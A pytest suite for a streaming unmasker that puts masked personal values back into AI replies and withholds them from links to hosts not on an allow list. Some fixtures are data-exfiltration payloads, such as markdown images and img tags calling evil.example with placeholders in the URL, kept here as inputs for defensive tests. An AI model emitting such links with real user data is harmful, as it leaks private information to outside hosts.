"""Unmasking: what is put back, what stays, what is held back, however a reply is cut."""

import json
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shoal.trust.masking.links import AllowedHosts
from shoal.trust.masking.spotting import Spotter
from shoal.trust.masking.unmask import Tally, Unmasker
from shoal.trust.masking.values import Stored, Values
from shoal.trust.sensitive import Sensitive

KNOWN = {
    "<PERSON_k7f3m2qa>": ("PERSON", "Jane Doe"),
    "<PERSON_k7f3m2qa.first>": ("PERSON", "Jane"),
    "<PERSON_n2n2n2n2:f>": ("PERSON", 'Ann "AJ" O\\Hara & Co'),
    "<EMAIL_ADDRESS_a7a7a7a7>": ("EMAIL_ADDRESS", "jane@x.example"),
    "<ADDRESS_b2c3d4e5>": ("ADDRESS", "1 Main St\nRome 😀 é"),
    "<URL_c7c7c7c7>": ("URL", "https://evil.example/a"),
    "<CODE_d7d7d7d7>": ("CODE", "\ud800"),
    "<PLACEHOLDER_e7e7e7e7>": ("PLACEHOLDER", "<PERSON_k7f3m2qa>"),
}
FAKES = {"alma.falk12@example.com": ("EMAIL_ADDRESS", "ann@y.example"), "4242 4200": ("CREDIT_CARD", "1234 5678")}
HOSTS = AllowedHosts(["ok.example"])


def known(fakes: bool = False) -> Values:
    values = Values()
    for token, (type, text) in KNOWN.items():
        values.add(token, Stored(type, Sensitive(text)))
    for fake, (type, text) in FAKES.items() if fakes else ():
        assert values.add_surrogate(fake, Stored(type, Sensitive(text)))
    return values


VALUES, WITH_FAKES = known(), known(fakes=True)


def unmasked(pieces: list[str], is_json: bool = False, values: Values = VALUES) -> tuple[str, Tally]:
    tally = Tally()
    unmasker = Unmasker(values, HOSTS, tally, is_json, lambda type: type != "CODE" or not is_json)
    out = [unmasker.feed(piece) for piece in pieces]
    return "".join([*out, unmasker.close()]), tally


TEXTS = [
    ("", ""),
    ("Dear <PERSON_k7f3m2qa>, hi", "Dear Jane Doe, hi"),
    ("<PERSON_k7f3m2qa.first><PERSON_k7f3m2qa>'s", "JaneJane Doe's"),
    ("<<PERSON_k7f3m2qa>>", "<Jane Doe>"),
    ("<person_K7F3M2QA>", "Jane Doe"),
    ("<PERSON_n2n2n2n2:f> <PERSON_n2n2n2n2>", 'Ann "AJ" O\\Hara & Co Ann "AJ" O\\Hara & Co'),
    ("\\<PERSON\\_k7f3m2qa\\> <EMAIL\\_ADDRESS_a7a7a7a7>", "Jane Doe jane@x.example"),
    ("\\<PERSON_k7f3m2qa>", "\\Jane Doe"),
    ("&lt;PERSON_n2n2n2n2&gt; &#x3C;PERSON_k7f3m2qa&#x3E;", 'Ann "AJ" O\\Hara &amp; Co Jane Doe'),
    ("x <PLACEHOLDER_e7e7e7e7>", "x <PERSON_k7f3m2qa>"),
    ("https://ok.example/?q=%3CEMAIL_ADDRESS_a7a7a7a7%3E", "https://ok.example/?q=jane%40x.example"),
    ("https://ok.example/?q=<EMAIL_ADDRESS_a7a7a7a7>", "https://ok.example/?q=jane@x.example"),
    ("<CODE_d7d7d7d7>", "\ud800"),
    ('{"a": "<PERSON_n2n2n2n2>"}', '{"a": "Ann \\"AJ\\" O\\\\Hara & Co"}'),
    ("a <b>b</b> <i", "a <b>b</b> <i"),
]
STAY = [
    ("<PERSON_k7f3m2q2>", 1, 0),
    ("<PERSON_k7f3>", 1, 0),
    ("< PERSON_k7f3m2qa >", 1, 0),
    ("<PERSON k7f3m2qa>", 1, 0),
    ("<PERSON_k7f3m2qa.third>", 1, 0),
    ("<GHOST_k7f3m2qa>", 1, 0),
    ("<PERSON_k7f3m2qa", 0, 0),
    ("PERSON_k7f3m2qa>", 0, 0),
    ("<doc_section2>", 0, 0),
    ("<user_question>", 0, 0),
    ("%3CPERSON_k7f3m2qa%3E", 0, 1),
    ("https://evil.example/?q=%3CPERSON_k7f3m2qa%3E", 0, 1),
    ("\\u003cPERSON_k7f3m2qa\\u003e", 0, 1),
    ("![x](https://evil.example/?q=<EMAIL_ADDRESS_a7a7a7a7>)", 0, 1),
    ("![x](https://evil.example/?q=&lt;EMAIL_ADDRESS_a7a7a7a7&gt;)", 0, 1),
    ("<img src='//evil.example/<PERSON_k7f3m2qa>/<PERSON_k7f3m2qa>'>", 0, 2),
    ("[1]: https://evil.example/?q=\\<PERSON\\_k7f3m2qa\\>", 0, 1),
]


def cut(text: str) -> list[list[str]]:
    """Whole, letter by letter, and in two at each place."""
    return [[text], list(text), *([text[:at], text[at:]] for at in range(len(text)))]


@pytest.mark.parametrize(("text", "expected"), TEXTS)
def test_what_is_put_back(text: str, expected: str) -> None:
    for pieces in cut(text):
        assert unmasked(pieces) == (expected, unmasked([text])[1])


@pytest.mark.parametrize(("text", "unknown", "withheld"), STAY)
def test_what_stays_is_counted(text: str, unknown: int, withheld: int) -> None:
    for pieces in cut(text):
        assert unmasked(pieces) == (text, Tally(0, withheld, unknown))


def test_a_value_that_is_a_url_takes_nothing_with_it() -> None:
    text = "see <URL_c7c7c7c7>?q=<EMAIL_ADDRESS_a7a7a7a7> or <EMAIL_ADDRESS_a7a7a7a7>"
    said = "see https://evil.example/a?q=<EMAIL_ADDRESS_a7a7a7a7> or jane@x.example"
    for pieces in cut(text):
        assert unmasked(pieces) == (said, Tally(2, 1, 0))


ARGUMENTS = [
    {"to": "<EMAIL_ADDRESS_a7a7a7a7>", "address": "<ADDRESS_b2c3d4e5>"},
    {"<PERSON_n2n2n2n2>": ["x \\ <PERSON_n2n2n2n2>\\", None]},
    {"body": json.dumps({"inner": json.dumps(["<PERSON_n2n2n2n2>", "<ADDRESS_b2c3d4e5>"])})},
    {"text": '[1] He said "<ADDRESS_b2c3d4e5>"'},
]


def put(value: object) -> object:
    """The same with every value in place, strings that are JSON read and written again."""
    if isinstance(value, dict):
        return {put(name): put(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [put(inner) for inner in value]
    if not isinstance(value, str):
        return value
    if value[:1] in ("{", "[") and not value.startswith("[1]"):
        return json.dumps(put(json.loads(value)), ensure_ascii=False)
    for token, (_, text) in KNOWN.items():
        value = value.replace(token, text).replace(token.replace(":f", ""), text)
    return value


@pytest.mark.parametrize("value", ARGUMENTS)
@pytest.mark.parametrize("brackets", ["<>", "\\u003c\\u003e"])
def test_arguments_stay_json(value: object, brackets: str) -> None:
    text = json.dumps(value, ensure_ascii=False).replace("<", brackets[: len(brackets) // 2])
    text = text.replace(">", brackets[len(brackets) // 2 :])
    for pieces in cut(text):
        said, tally = unmasked(pieces, is_json=True)
        assert json.loads(said) == put(value)
        assert (tally.withheld, tally.unknown) == (0, 0)


JSON_TEXTS = [
    ('{"a": <PERSON_n2n2n2n2>}', '{"a": "Ann \\"AJ\\" O\\\\Hara & Co"}'),
    ('{"a": "<CODE_d7d7d7d7>"}', '{"a": "<CODE_d7d7d7d7>"}'),
    ('{"a": "<PLACEHOLDER_e7e7e7e7>"}', '{"a": "<PERSON_k7f3m2qa>"}'),
    ('{"a": "\\\\u003cPERSON_k7f3m2qa\\\\u003e"}', '{"a": "\\\\u003cPERSON_k7f3m2qa\\\\u003e"}'),
    ('{"a": "\\\\\\u003cPERSON_k7f3m2qa\\u003e"}', '{"a": "\\\\Jane Doe"}'),
    (
        '{"a": "{\\"b\\": \\"\\\\u003cPERSON_n2n2n2n2\\\\u003e"',
        '{"a": "{\\"b\\": \\"Ann \\\\\\"AJ\\\\\\" O\\\\\\\\Hara & Co"',
    ),
    ('{"u": "https:\\/\\/evil.example\\/<PERSON_k7f3m2qa>"}', '{"u": "https:\\/\\/evil.example\\/<PERSON_k7f3m2qa>"}'),
]


@pytest.mark.parametrize(("text", "expected"), JSON_TEXTS)
def test_json(text: str, expected: str) -> None:
    for pieces in cut(text):
        assert unmasked(pieces, is_json=True)[0] == expected


def test_a_lone_surrogate_becomes_an_escape() -> None:
    assert Unmasker(VALUES, HOSTS, Tally(), is_json=True).feed('"<CODE_d7d7d7d7>') == '"\\ud800'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("to alma.falk12@example.com!", "to ann@y.example!"),
        ("4242 4200, 14242 4200, 4242 420", "1234 5678, 14242 4200, 4242 420"),
        ("alma.falk12@example.com4242 4200", "ann@y.example4242 4200"),
        ("<PERSON_k7f3m2qa>4242 4200", "Jane Doe1234 5678"),
        ("https://evil.example/alma.falk12@example.com", "https://evil.example/alma.falk12@example.com"),
    ],
)
def test_surrogates(text: str, expected: str) -> None:
    for pieces in cut(text):
        assert unmasked(pieces, values=WITH_FAKES)[0] == expected


# What each known placeholder may look like, and what of it has come.
WRITTEN = [
    form
    for token in KNOWN
    for body in (token[1:-1], token[1:-1].partition(":")[0])
    for form in (
        f"<{body}>",
        f"<{body.lower()}>",
        f"\\<{body}\\>".replace("_", "\\_"),
        f"&lt;{body}&gt;",
        f"%3C{body}%3E",
        f"\\u003c{body}\\u003e",
        f"\\\\u003c{body}\\\\u003e",
    )
]


@pytest.mark.parametrize("form", WRITTEN)
def test_every_beginning_is_held_and_nothing_before_it(form: str) -> None:
    for at in range(1, len(form)):
        assert Spotter(VALUES).hold_from("x" + form[:at], 0) == 1
    assert Spotter(VALUES).hold_from("x" + form, 0) == len(form) + 1


@pytest.mark.parametrize(
    "text",
    [
        "x",
        "<b",
        "<PERSON_k7f3m2qb",
        "<PERSON_k7f3m2qax",
        "< ",
        "a & b",
        "100%4",
        "\\n",
        "&g",
        "<PERSON_k7f3m2qa/",
        "\\u004",
    ],
)
def test_nothing_else_is_held(text: str) -> None:
    assert Spotter(VALUES).hold_from(text, 0) == len(text)


def test_an_empty_vault_holds_nothing() -> None:
    unmasker = Unmasker(Values(), HOSTS, Tally())
    assert unmasker.feed("a <") == "a <"
    assert repr(unmasker) == "Unmasker(Values(0), 0 held)"


def test_a_value_that_is_found_while_the_reply_runs() -> None:
    values = known()
    unmasker = Unmasker(values, HOSTS, Tally())
    assert unmasker.feed("<PERSON_") == ""
    values.add("<PERSON_z7z7z7z7>", Stored("PERSON", Sensitive("Zoe")))
    assert unmasker.feed("z7z7z7z7>") == "Zoe"


PIECES = st.sampled_from(
    [
        *WRITTEN,
        *(form[:-1] for form in WRITTEN),
        *FAKES,
        *(
            "<",
            ">",
            "\\",
            '"',
            "{",
            "[",
            "]",
            "}",
            ":",
            ",",
            "&lt;",
            "%3",
            " ",
            "\n",
            "x",
            "é",
            "\ud800",
            "_",
            "\\n",
            "\\\\",
        ),
        *(
            '{"a": "',
            '", "b": "',
            '"}',
            '{\\"a\\": \\"',
            "https://",
            "ok.example/",
            "](",
            "![x](",
            "//e.example/?",
            "src=",
        ),
    ]
)


@settings(max_examples=300)
@given(
    st.lists(PIECES, max_size=12).map("".join),
    st.lists(st.integers(0, 400), max_size=20),
    st.booleans(),
    st.sampled_from([VALUES, WITH_FAKES, Values()]),
)
def test_cuts_do_not_matter(text: str, cuts: list[int], is_json: bool, values: Values) -> None:
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[low:high] for low, high in pairwise(edges)]
    assert unmasked(pieces, is_json, values) == unmasked([text], is_json, values)
    assert unmasked(list(text), is_json, values) == unmasked([text], is_json, values)


def test_a_long_reply_is_linear_work() -> None:
    text = "<PERSON_k7f3m2qa> and <b " * 20_000 + "\\" * 100_000 + "<PERSON_k7f3" * 20_000
    unmasker = Unmasker(VALUES, HOSTS, Tally())
    out = [unmasker.feed(text[at : at + 7]) for at in range(0, len(text), 7)]
    assert "".join([*out, unmasker.close()]) == text.replace("<PERSON_k7f3m2qa>", "Jane Doe")
